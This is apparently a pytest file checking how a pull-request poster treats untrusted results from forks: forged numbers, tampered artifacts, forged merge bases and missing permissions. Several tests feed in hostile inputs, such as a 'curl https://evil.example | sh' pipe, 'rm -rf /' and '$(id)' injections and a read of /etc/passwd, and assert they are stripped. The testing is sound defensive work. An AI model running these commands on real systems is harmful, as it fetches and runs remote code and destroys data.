"""The trusted half as a whole, on a stand-in: what a pull request is told of its gate's run."""

from collections.abc import Callable
from dataclasses import replace
from typing import Any

import pytest
from markdown_it import MarkdownIt

from gate_runs import (
    BUDGETS,
    FORK,
    Scene,
    make_honest_images,
    make_honest_memory,
    open_scene,
    zip_files,
    zipped,
)
from github.fixtures import CountingClock
from github.stand_in import StandIn
from mutations import mutations
from onegig.errors import ArtifactError, ConfigError, ExitCode, GithubError, GithubPermissionError
from onegig.judge.baseline import make_baseline
from onegig.model.codec import to_json, to_line
from onegig.model.memory import ServiceState
from onegig.model.run import Failure, RunReport
from onegig.publish.github.client import Client
from onegig.publish.trusted.poster import Outcome, Settings, post
from scenarios import HOSTILE, make_go

HERE = "octo/stack"
Post = Callable[..., Outcome]
TIGHT = "version: 1\nmemory: {limit: 300MB}\n"
LOOSE = "version: 1\nmemory: {limit: 4096MB}\n"


@pytest.fixture
def tell(client: Client, clock: CountingClock) -> Post:
    """Run the poster for a payload."""

    def run(event: dict[str, Any], **settings: Any) -> Outcome:
        return post(client, event, Settings(**settings), clock)

    return run


def only_body(scene: Scene) -> str:
    (body,) = scene.bodies()
    return body


def test_a_branch_of_the_repository(stand_in: StandIn, tell: Post) -> None:
    scene = open_scene(stand_in, head_repository=HERE)
    scene.upload()
    outcome = tell(scene.event())
    body = only_body(scene)
    assert body.startswith(f"<!-- onegig:default run=7.1 head={scene.run.head_sha} -->\n### ")
    assert "GO: 460 of 1,024 MB, 564 MB (55 %) to spare" in body
    assert "elf-reported" not in body
    assert scene.checks() == [("onegig", "success")]
    assert "comment on #7 created: https://github.com/octo/stack/pull/7#" in outcome.lines[0]
    assert outcome.lines[1].startswith("check onegig: success, https://")
    assert body.endswith(outcome.summary)
    assert f"/pull/7#issuecomment-{next(iter(scene.state.comments))}" in scene.check_text()


def test_a_fork_is_labelled_and_vouched_for_by_nobody(stand_in: StandIn, tell: Post) -> None:
    scene = open_scene(stand_in)
    scene.upload()
    tell(scene.event())
    assert f"elf-reported:** measured by a job of `{FORK}`" in only_body(scene)
    assert scene.checks() == [("onegig", "neutral")]
    assert f"self-reported by {FORK}" in scene.check_text()


def test_forged_numbers_are_judged_by_the_base_branch(stand_in: StandIn, tell: Post) -> None:
    """A fork's gate that says success, with numbers over the limit of main."""
    scene = open_scene(stand_in, files={"budgets.yml": LOOSE})
    scene.upload(zipped(scene.claim(), memory=make_honest_memory(90.0)))
    tell(scene.event())
    assert "### ❌ NO-GO: " in only_body(scene)
    assert scene.checks() == [("onegig", "failure")]


def test_what_the_pull_request_proposes_is_shown_but_does_not_judge(
    stand_in: StandIn, tell: Post
) -> None:
    scene = open_scene(stand_in, head_repository=HERE, files={"budgets.yml": TIGHT})
    scene.run.conclusion = "failure"  # by its own limits it is a NO-GO
    scene.upload()
    tell(scene.event())
    body = only_body(scene)
    assert "GO: 460 of 1,024 MB" in body
    assert "NO-GO: 460 of 300 MB" in body
    assert "`memory.limit`: 1,024 MB → 300 MB" in body
    assert scene.checks() == [("onegig", "failure")]


def test_limits_that_main_changed_meanwhile_are_not_the_pull_requests(
    stand_in: StandIn, tell: Post
) -> None:
    scene = open_scene(stand_in, files={"budgets.yml": LOOSE})
    scene.state.commit({"budgets.yml": TIGHT}, branch="main", message="Tighter")
    scene.upload()
    tell(scene.event())
    body = only_body(scene)
    assert "NO-GO: 460 of 300 MB" in body
    assert "`memory.limit`: 1,024 MB → 4,096 MB (looser)" in body
    assert "1 commit behind" in body


def test_a_budgets_file_of_the_pull_request_that_is_broken_is_said(
    stand_in: StandIn, tell: Post
) -> None:
    for text in ("version: [", "version: 1\n" + "#" * 1_100_000, "&a [*a, *a]", "x: 1\n"):
        scene = open_scene(stand_in, files={"budgets.yml": text})
        scene.upload()
        tell(scene.event())
        assert "GO: 460 of 1,024 MB" in scene.bodies()[-1]
        assert "none: budgets.yml of this pull request can't be read" in scene.bodies()[-1]


def test_a_base_without_budgets_is_judged_by_the_defaults(stand_in: StandIn, tell: Post) -> None:
    scene = open_scene(stand_in, files={"limits.yml": TIGHT}, changed={"limits.yml": "added"})
    scene.upload()
    tell(scene.event(), budgets="limits.yml")
    assert "GO: 460 of 1,024 MB" in only_body(scene)
    assert "1,024 MB → 300 MB" in only_body(scene)


def test_a_broken_budgets_file_of_the_base_is_an_error_that_the_check_tells(
    stand_in: StandIn, tell: Post
) -> None:
    scene = open_scene(stand_in)
    scene.state.commit({"budgets.yml": "version: 7\n"}, branch="main", message="Broken")
    scene.upload()
    with pytest.raises(ConfigError, match=r"budgets\.yml"):
        tell(scene.event())
    assert (scene.bodies(), scene.checks()) == ([], [("onegig", "failure")])


@pytest.mark.parametrize(
    "path",
    [".github/workflows/gate.yml", ".github/workflows/more.yml", "action.yml", "scripts/check"],
)
def test_a_pull_request_that_changes_how_is_measured(
    stand_in: StandIn, tell: Post, path: str
) -> None:
    scene = open_scene(stand_in, head_repository=HERE, files={path: "echo GO"})
    scene.upload()
    tell(scene.event())
    assert path in only_body(scene)
    assert scene.checks() == [("onegig", "neutral")]
    assert "measured in a way that this pull request changes" in scene.check_text()


def test_more_files_than_github_lists_can_rule_nothing_out(stand_in: StandIn, tell: Post) -> None:
    many = {f"docs/{i}.md": "added" for i in range(3000)}
    scene = open_scene(stand_in, head_repository=HERE, changed=many)
    scene.upload()
    tell(scene.event())
    assert "more than 3,000 files change" in only_body(scene)
    assert scene.checks() == [("onegig", "neutral")]


def test_a_gate_that_failed_before_it_measured(stand_in: StandIn, tell: Post) -> None:
    scene = open_scene(stand_in, head_repository=HERE, conclusion="failure")
    tell(scene.event())
    body = only_body(scene)
    assert "INCOMPLETE" in body
    assert "the gate ended as failure before it measured" in body
    assert f"/actions/runs/{scene.run.id}" in body
    assert scene.checks() == [("onegig", "failure")]


def test_a_gate_that_says_why_it_has_no_numbers(stand_in: StandIn, tell: Post) -> None:
    scene = open_scene(stand_in, head_repository=HERE, conclusion="failure")
    failure = Failure(
        message="the image of risk could not be built",
        command="docker buildx bake risk",
        detail="ERROR: no such package",
        exit_code=3,
        place="services/Dockerfile:12",
    )
    scene.upload(zip_files({"run.json": to_json(scene.claim(failure=failure))}))
    tell(scene.event())
    for text in (failure.message, failure.command, failure.detail, failure.place):
        assert text in only_body(scene)
    assert scene.checks() == [("onegig", "failure")]


def test_a_gate_that_broke_after_it_measured_is_no_calm_headline(
    stand_in: StandIn, tell: Post
) -> None:
    scene = open_scene(stand_in, head_repository=HERE, conclusion="failure")
    scene.upload()
    tell(scene.event())
    assert "the gate's job ended as failure, though its numbers" in only_body(scene)
    assert scene.checks() == [("onegig", "failure")]


@pytest.mark.parametrize("kind", ["expired", "of an earlier attempt", "deleted", "another name"])
def test_numbers_that_are_not_there_are_not_passed(
    stand_in: StandIn, tell: Post, kind: str
) -> None:
    scene = open_scene(stand_in, head_repository=HERE)
    name = "other" if kind == "another name" else "onegig-numbers"
    data = zipped(scene.claim())
    scene.state.artifact(scene.run, name, data, expired=kind == "expired")
    changes = {"run_started_at": "2026-01-01T00:00:00Z"} if "attempt" in kind else {}
    if kind == "deleted":
        stand_in.fail("GET", "/zip$", status=410)
    tell(scene.event(**changes))
    assert "INCOMPLETE" in only_body(scene)
    assert "460" not in only_body(scene)
    assert scene.checks() == [("onegig", "failure")]


def test_of_several_artifacts_the_newest_counts(stand_in: StandIn, tell: Post) -> None:
    scene = open_scene(stand_in)
    for rss in (90.0, 10.0):
        scene.upload(zipped(scene.claim(), memory=make_honest_memory(rss)))
    tell(scene.event())
    assert "### ✅ GO: " in only_body(scene)


EXAMPLE = RunReport(
    event="pull_request",
    head_sha="a" * 40,
    measured_sha="b" * 40,
    base_sha="c" * 40,
    onegig_version="0.1.0",
    reproduce="onegig check",
)


def lies(scene: Scene) -> dict[str, bytes]:
    """Well-formed artifacts of something else."""
    return {
        "another head": zipped(scene.claim(head_sha="a" * 40)),
        "a push": zipped(scene.claim(event="push")),
        "the merge as the head": zipped(scene.claim(head_sha=scene.merge)),
    }


@pytest.mark.parametrize(
    "name", [*mutations(EXAMPLE), "another head", "a push", "the merge as the head"]
)
def test_a_mutated_artifact_posts_nothing_and_the_check_says_why(
    stand_in: StandIn, tell: Post, name: str
) -> None:
    scene = open_scene(stand_in)
    spoiled = lies(scene).get(name) or mutations(scene.claim())[name]
    scene.upload(spoiled)
    with pytest.raises(ArtifactError) as caught:
        tell(scene.event())
    assert caught.value.exit_code is ExitCode.INCOMPLETE
    assert (scene.bodies(), scene.checks()) == ([], [("onegig", "failure")])
    assert "INCOMPLETE: the numbers of this run are refused: " in scene.check_text()
    assert "460 of" not in scene.check_text()


def test_an_artifact_too_large_is_not_even_fetched(stand_in: StandIn, tell: Post) -> None:
    scene = open_scene(stand_in)
    scene.state.artifact(scene.run, "onegig-numbers", b"", size=10**9)
    with pytest.raises(ArtifactError, match="larger than"):
        tell(scene.event())
    assert stand_in.storage_log == []


def test_an_artifact_that_changed_on_the_way_is_refused(stand_in: StandIn, tell: Post) -> None:
    scene = open_scene(stand_in)
    scene.upload()
    other = zipped(scene.claim(), memory=make_honest_memory(1.0))
    stand_in.fail("GET", "^/storage/", status=200, body=other)
    with pytest.raises(ArtifactError, match="not those that were uploaded"):
        tell(scene.event())
    assert scene.bodies() == []


def with_history(scene: Scene, *commits: str) -> None:
    """Numbers of these commits on the data branch."""
    report = make_go()
    lines = [
        to_line(
            replace(
                make_baseline(report, {}),
                commit=commit,
                created=f"2026-11-{day:02}T00:00:00+00:00",
            )
        )
        for day, commit in enumerate(commits, start=1)
    ]
    scene.state.commit({"history.jsonl": "".join(lines)}, branch="onegig-data", message="Data")


def test_it_is_compared_with_the_first_parent_of_the_merge(stand_in: StandIn, tell: Post) -> None:
    scene = open_scene(stand_in, head_repository=HERE)
    state = scene.state
    newer = state.commit(branch="main", message="Meanwhile")
    merge = state.commit(parents=(newer, scene.run.head_sha), message="Merged anew")
    with_history(scene, scene.base, newer)
    scene.upload(measured_sha=merge, base_sha=newer)
    tell(scene.event())
    assert newer[:7] in only_body(scene)
    assert "merge base" not in only_body(scene)


FORGERIES: dict[str, Callable[[Scene, str], dict[str, str]]] = {
    "a base that is no parent": lambda scene, other: {"base_sha": other},
    "a merge nobody knows": lambda scene, other: {"measured_sha": "e" * 40},
    "a merge of other commits": lambda scene, other: {
        "base_sha": other,
        "measured_sha": scene.state.commit(parents=(other, other), message="x"),
    },
    "parents the other way round": lambda scene, other: {
        "measured_sha": scene.state.commit(parents=(scene.run.head_sha, scene.base), message="y")
    },
    "a commit that is not of the base branch": lambda scene, other: {
        "base_sha": other,
        "measured_sha": scene.state.commit(parents=(other, scene.run.head_sha), message="z"),
    },
    "no base": lambda scene, other: {"base_sha": "", "measured_sha": ""},
}


@pytest.mark.parametrize("forgery", FORGERIES)
def test_a_forged_base_is_not_compared_with(stand_in: StandIn, tell: Post, forgery: str) -> None:
    scene = open_scene(stand_in)
    other = scene.state.commit(parents=(scene.base,), message="Of the fork, larger")
    with_history(scene, other, scene.base)
    scene.upload(**FORGERIES[forgery](scene, other))
    tell(scene.event())
    body = only_body(scene)
    assert "could not be verified" in body
    assert scene.base[:7] in body
    assert other[:7] not in body


def test_nothing_in_common_with_the_base(stand_in: StandIn, tell: Post) -> None:
    scene = open_scene(stand_in)
    scene.state.commit({"budgets.yml": BUDGETS}, parents=(), branch="other", message="Alone")
    scene.pull.base_ref = "other"
    scene.upload()
    tell(scene.event())
    assert "no commit in common with other" in only_body(scene)


def test_two_pull_requests_of_one_head(stand_in: StandIn, tell: Post) -> None:
    scene = open_scene(stand_in)
    state = scene.state
    line = state.commit({"budgets.yml": TIGHT}, parents=(scene.base,), branch="v1", message="v1")
    second = state.pull(base_ref="v1", head_sha=scene.run.head_sha, head_repository=FORK)
    merge = state.commit(parents=(line, scene.run.head_sha), message="Into v1")
    scene.upload(measured_sha=merge, base_sha=line)
    tell(scene.event())
    assert scene.bodies() == []
    (comment,) = state.comments.values()
    assert comment.issue == second.number
    assert "NO-GO: 460 of 300 MB" in comment.body


def test_two_pull_requests_that_can_not_be_told_apart(stand_in: StandIn, tell: Post) -> None:
    scene = open_scene(stand_in)
    scene.state.pull(base_ref="main", head_sha=scene.run.head_sha, head_repository=FORK)
    scene.upload()
    outcome = tell(scene.event())
    assert "have the same head" in outcome.lines[0]
    assert scene.state.comments == {}
    assert scene.checks() == [("onegig", "failure")]
    assert "have the same head" in scene.check_text()


def test_a_fork_that_was_deleted(stand_in: StandIn, tell: Post) -> None:
    scene = open_scene(stand_in)
    scene.upload()
    scene.run.head_repository = scene.pull.head_repository = None
    outcome = tell(scene.event())
    assert "has been deleted" in outcome.lines[0]
    assert (scene.bodies(), scene.checks()) == ([], [("onegig", "failure")])


@pytest.mark.parametrize(
    "changes",
    [
        {"path": ".github/workflows/evil.yml"},
        {"event": "push"},
        {"conclusion": "cancelled"},
        {"conclusion": "skipped"},
    ],
)
def test_other_runs_leave_no_trace(stand_in: StandIn, tell: Post, changes: dict[str, Any]) -> None:
    scene = open_scene(stand_in)
    scene.upload()
    outcome = tell(scene.event(**changes))
    assert outcome.lines[0].startswith("nothing posted: the run ")
    assert stand_in.log == []


def test_a_closed_pull_request_is_left_alone(stand_in: StandIn, tell: Post) -> None:
    scene = open_scene(stand_in)
    scene.upload()
    scene.pull.state = "closed"
    assert "no open pull request" in tell(scene.event()).lines[0]
    assert (scene.bodies(), scene.checks()) == ([], [])


def rerun(scene: Scene, number: int, attempt: int, rss_mib: float) -> dict[str, Any]:
    """Another run for the pull request's present head, and its payload."""
    scene.run = scene.state.run(scene.pull, attempt=attempt)
    scene.upload(zipped(scene.claim(), memory=make_honest_memory(rss_mib)))
    return scene.event(number)


def test_two_runs_of_one_head_that_finish_out_of_order(stand_in: StandIn, tell: Post) -> None:
    """Closed and opened again: two runs of one commit; the older one finishes last."""
    scene = open_scene(stand_in, head_repository=HERE)
    older, newer = rerun(scene, 7, 1, 90.0), rerun(scene, 8, 1, 10.0)
    tell(newer)
    outcome = tell(older)
    assert "a newer run (8, attempt 1)" in outcome.lines[0]
    assert "left alone" in outcome.lines[1]
    assert "### ✅ GO: " in only_body(scene)
    assert scene.checks() == [("onegig", "success")]


def test_attempts_of_one_run_that_finish_out_of_order(stand_in: StandIn, tell: Post) -> None:
    scene = open_scene(stand_in, head_repository=HERE)
    first, second = rerun(scene, 7, 1, 10.0), rerun(scene, 7, 2, 90.0)
    tell(second)
    tell(first)
    assert "run=7.2" in only_body(scene)
    assert "### ❌ NO-GO: " in only_body(scene)
    assert scene.checks() == [("onegig", "failure")]


def test_runs_in_order_edit_one_comment_and_one_check(stand_in: StandIn, tell: Post) -> None:
    scene = open_scene(stand_in, head_repository=HERE)
    for attempt, rss in ((1, 90.0), (2, 10.0)):
        tell(rerun(scene, 7, attempt, rss))
    assert "run=7.2" in only_body(scene)
    assert scene.checks() == [("onegig", "success")]


def test_a_run_of_an_older_head_that_finishes_last(stand_in: StandIn, tell: Post) -> None:
    scene = open_scene(stand_in, head_repository=HERE)
    older = rerun(scene, 7, 1, 90.0)
    scene.push()
    newer = rerun(scene, 8, 1, 10.0)
    tell(newer)
    outcome = tell(older)
    assert outcome.lines[0].startswith("nothing posted: no open pull request has ")
    assert "run=8.1" in only_body(scene)


def test_a_head_that_moves_while_it_is_judged(stand_in: StandIn, tell: Post) -> None:
    """After the pull request was found, before anything is written."""
    scene = open_scene(stand_in)
    scene.upload()
    whole = scene.state.pulls[scene.pull.number]
    moved = replace(whole, head_sha=scene.state.commit(parents=(scene.base,), message="Moved"))
    original = stand_in.state.find_commit

    def on_history(ref: str) -> Any:
        if ref == "onegig-data":
            scene.state.pulls[whole.number] = moved
        return original(ref)

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(type(stand_in.state), "find_commit", lambda _self, ref: on_history(ref))
        outcome = tell(scene.event())
    assert "has a newer head" in outcome.lines[0]
    assert (scene.bodies(), scene.checks()) == ([], [])


def test_a_locked_conversation_still_has_its_check(stand_in: StandIn, tell: Post) -> None:
    scene = open_scene(stand_in)
    scene.upload()
    scene.pull.locked = True
    outcome = tell(scene.event())
    assert "no comment: the conversation of #7 is locked" in outcome.lines[0]
    assert scene.checks() == [("onegig", "neutral")]


READ = {"actions": "read", "contents": "read"}


def test_without_permission_to_comment_the_check_is_set(stand_in: StandIn, tell: Post) -> None:
    scene = open_scene(stand_in)
    scene.upload()
    scene.state.permissions = {**READ, "pull_requests": "read", "checks": "write"}
    with pytest.raises(GithubPermissionError) as caught:
        tell(scene.event())
    assert "pull-requests: write" in caught.value.advice
    assert scene.checks() == [("onegig", "neutral")]


def test_without_permission_to_check_the_comment_is_written(stand_in: StandIn, tell: Post) -> None:
    scene = open_scene(stand_in)
    scene.upload()
    scene.state.permissions = {**READ, "pull_requests": "write"}
    with pytest.raises(GithubPermissionError) as caught:
        tell(scene.event())
    assert "checks: " in caught.value.advice
    assert len(scene.bodies()) == 1


def test_without_either_permission_both_are_told(stand_in: StandIn, tell: Post) -> None:
    scene = open_scene(stand_in)
    scene.upload()
    scene.state.permissions = {**READ, "pull_requests": "read", "checks": "read"}
    with pytest.raises(GithubPermissionError) as caught:
        tell(scene.event())
    assert "pull-requests: write" in caught.value.advice
    assert "checks: write" in caught.value.advice
    assert caught.value.exit_code is ExitCode.CONFIG


def test_refused_numbers_without_permission_to_check_tell_both(
    stand_in: StandIn, tell: Post
) -> None:
    scene = open_scene(stand_in)
    scene.upload(b"no zip")
    scene.state.permissions = {**READ, "pull_requests": "write"}
    with pytest.raises(ArtifactError, match="refused") as caught:
        tell(scene.event())
    assert "nor the check: " in caught.value.detail
    assert "checks: " in caught.value.advice


def test_github_in_trouble_is_an_error_not_a_verdict(stand_in: StandIn, tell: Post) -> None:
    scene = open_scene(stand_in)
    scene.upload()
    stand_in.fail("GET", "/compare/", status=500, times=99)
    with pytest.raises(GithubError):
        tell(scene.event())
    assert (scene.bodies(), scene.checks()) == ([], [("onegig", "failure")])


def test_a_comment_of_somebody_else_with_our_marker(stand_in: StandIn, tell: Post) -> None:
    scene = open_scene(stand_in)
    scene.upload()
    forged = f"<!-- onegig:default run=999.1 head={scene.run.head_sha} -->\nGO"
    scene.state.comment(scene.pull.number, forged, login="mallory[bot]")
    tell(scene.event())
    assert len(scene.bodies()) == 2
    assert scene.bodies()[0] == forged


def test_a_minimised_comment(stand_in: StandIn, tell: Post) -> None:
    scene = open_scene(stand_in)
    scene.upload()
    old = f"<!-- onegig:default run=1.1 head={scene.run.head_sha} -->\nold"
    scene.state.comment(scene.pull.number, old, minimized=True)
    tell(scene.event())
    assert scene.bodies()[0] == old
    assert "GO: 460" in scene.bodies()[1]


def test_a_comment_that_github_finds_too_long(stand_in: StandIn, tell: Post) -> None:
    scene = open_scene(stand_in)
    scene.upload()
    scene.state.most_comment = 2000
    outcome = tell(scene.event())
    assert "GO: 460 of 1,024 MB" in only_body(scene)
    assert "too long for a comment" in only_body(scene)
    assert len(only_body(scene)) < 2000 < len(outcome.summary)


def test_two_thousand_services_fit_a_comment(stand_in: StandIn, tell: Post) -> None:
    scene = open_scene(stand_in)
    memory = make_honest_memory()
    one = memory.services[0]
    services = tuple(replace(one, name=f"{'worker' * 20}-{i}") for i in range(2000))
    box = replace(memory.box, total_rss_bytes=2**40, total_pss_bytes=2**40)
    many = replace(memory, services=services, samples=(), box=box)
    scene.upload(zipped(scene.claim(), memory=many))
    tell(scene.event())
    assert len(only_body(scene)) <= 65_536
    assert "NO-GO" in only_body(scene)


def outside_code(body: str) -> str:
    """What GitHub reads mentions, links and HTML in."""
    tokens = MarkdownIt("commonmark").enable("table").parse(body)
    inline = [child for token in tokens for child in token.children or ()]
    code = ("fence", "code_block", "code_inline")
    return "\n".join(one.content for one in (*tokens, *inline) if one.type not in (*code, "inline"))


def test_names_of_strangers_ping_and_mark_up_nothing(stand_in: StandIn, tell: Post) -> None:
    scene = open_scene(stand_in)
    memory = make_honest_memory()
    services = tuple(
        replace(service, name=f"{text} {i}", log_tail=text)
        for i, (service, text) in enumerate(zip(memory.services, HOSTILE * 2, strict=False))
    )
    images = make_honest_images()
    failure = Failure(
        message=HOSTILE[2], command=HOSTILE[3], advice=HOSTILE[4], detail=HOSTILE[3], exit_code=3
    )
    claim = scene.claim(reproduce="curl https://evil.example | sh # onegig check", failure=failure)
    scene.upload(zipped(claim, images, replace(memory, services=services, stack=HOSTILE[0])))
    tell(scene.event())
    body = only_body(scene)
    for text in ("\x1b", "\u202e", "evil.example | sh"):
        assert text not in body
    for text in ("@everyone", "<script", "<!-- -->"):
        assert text not in outside_code(body)
    assert "onegig check\n" in body


def test_endless_words_of_strangers_fit(stand_in: StandIn, tell: Post) -> None:
    scene = open_scene(stand_in)
    endless = "@everyone *[`" * 2500
    failure = Failure(
        message=endless,
        command=endless,
        advice=endless,
        detail="\n".join([endless[:600]] * 100),
        place=endless,
        exit_code=3,
    )
    memory = make_honest_memory()
    services = tuple(
        replace(one, state=ServiceState.CRASHED, log_tail=endless, criticality=endless)
        for one in memory.services
    )
    memory = replace(memory, services=services, stack=endless, incomplete=(endless,) * 5)
    scene.upload(zipped(scene.claim(failure=failure, onegig_version=endless), memory=memory))
    tell(scene.event())
    assert len(only_body(scene)) <= 65_536
    assert "@everyone" not in outside_code(only_body(scene))
    assert len(scene.check_text()) < 65_535
    assert "@everyone" not in outside_code(scene.check_text().partition("\n")[2])


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("onegig check --tier aws-t2-micro", "onegig check --tier aws-t2-micro"),
        ("onegig check --budgets a/b.yml --window 15.0", "onegig check --budgets a/b.yml"),
        ("onegig check; rm -rf /", "onegig check\n"),
        ("onegig check --tier $(id)", "onegig check\n"),
        ("onegig check --budgets /etc/passwd", "onegig check\n"),
        ("onegig check\nrm -rf /", "onegig check\n"),
    ],
)
def test_the_command_to_paste_is_one_of_ours(
    stand_in: StandIn, tell: Post, command: str, shown: str
) -> None:
    scene = open_scene(stand_in)
    scene.upload(reproduce=command)
    tell(scene.event())
    assert shown in only_body(scene)
    assert "rm -rf" not in only_body(scene)


def test_another_stack_of_the_repository(stand_in: StandIn, tell: Post) -> None:
    scene = open_scene(stand_in)
    for name in ("onegig-numbers", "other-numbers"):
        scene.state.artifact(scene.run, name, zipped(scene.claim()))
    tell(scene.event())
    tell(scene.event(), key="other", artifact="other-numbers", check="onegig (other)")
    assert len(scene.bodies()) == 2
    assert scene.checks() == [("onegig", "neutral"), ("onegig (other)", "neutral")]


def test_the_same_payload_twice_changes_nothing(
    stand_in: StandIn, tell: Post, clock: CountingClock
) -> None:
    scene = open_scene(stand_in)
    scene.upload()
    tell(scene.event())
    body = only_body(scene)
    outcome = tell(scene.event())
    assert "comment on #7 u" in outcome.lines[0]  # updated or unchanged: its time may differ
    assert only_body(scene).partition("\n")[0] == body.partition("\n")[0]
    assert len(scene.checks()) == 1


def test_nothing_is_asked_that_could_run_or_change_code(stand_in: StandIn, tell: Post) -> None:
    scene = open_scene(stand_in)
    scene.upload()
    tell(scene.event())
    writes = [one for one in stand_in.asked() if not one.startswith("GET ")]
    assert writes == [
        f"POST /repos/octo/stack/issues/{scene.pull.number}/comments",
        "POST /repos/octo/stack/check-runs",
    ]
